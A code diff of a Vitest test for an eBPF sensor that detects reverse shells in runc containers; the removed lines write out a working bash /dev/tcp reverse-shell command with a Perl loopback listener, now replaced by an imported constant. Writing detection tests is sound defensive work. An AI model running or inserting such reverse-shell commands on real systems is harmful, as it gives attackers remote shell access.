@@ -3,7 +3,7 @@ import { spawnSync } from 'node:child_process';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { NodeAgent, type AgentAlert, type ExecEvent } from '../../src/agent/index.js';
 import { agentOnce, containerAlerts } from './collect.js';
-import { containerName, RuncLab, runcAvailable, type ContainerSpec } from './runc.js';
+import { containerName, REVERSE_SHELL, RuncLab, runcAvailable, type ContainerSpec } from './runc.js';
 
 /**
  * The eBPF sensor (bpftrace, tracepoints) against real runc containers from the debian12
@@ -61,9 +61,8 @@ describe.skipIf(!available)('eBPF sensor on real containers (runc)', () => {
 
   it('sees a reverse shell over loopback inside the container: bash -i with its stdin on the socket it connected', async () => {
     const name = containerName('revshell');
-    const script = 'perl -MIO::Socket::INET -e \'my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die; my $c = $s->accept; sleep 60;\' & sleep 0.5; bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; true"';
     try {
-      await lab.run(name, { args: ['/bin/bash', '-c', script] });
+      await lab.run(name, { args: ['/bin/bash', '-c', REVERSE_SHELL] });
       const bySocket = (a: AgentAlert) => a.rule === 'agent.reverse-shell' && a.evidence[0]!.event.process?.stdin?.type === 'socket';
       const alerts = await alertsFor(name, (a) => a.some(bySocket));
       const shell = alerts.find(bySocket);
